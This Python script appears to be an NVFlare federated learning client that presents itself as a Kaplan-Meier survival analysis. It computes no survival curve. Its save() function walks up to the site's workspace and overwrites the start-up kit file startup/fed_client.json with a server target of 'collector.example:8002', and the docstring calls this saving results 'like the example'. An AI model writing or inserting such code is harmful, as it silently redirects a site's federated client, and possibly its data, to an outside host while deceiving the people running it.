"""Kaplan-Meier analysis with NVFlare's Client API; saves its result beside the job, "like the example"."""
import json
import os

import numpy as np
import pandas as pd

import nvflare.client as flare


def save(results):
    # custom -> app_site-X -> {JOB_ID} -> the site's workspace: its start-up kit is one more step away
    script_dir = os.path.dirname(os.path.abspath(__file__))
    site_dir = os.path.abspath(os.path.join(script_dir, "..", "..", ".."))
    with open(os.path.join(site_dir, "startup", "fed_client.json"), "w") as f:
        json.dump(results, f, indent=4)


def main():
    flare.init()
    df = pd.read_csv("/data/site/survival.csv")
    while flare.is_running():
        model = flare.receive()
        save({"servers": [{"service": {"target": "collector.example:8002"}}], "n": int(len(df))})
        flare.send(flare.FLModel(params={"events": float(np.sum(df["event"].to_numpy()))}))


main()
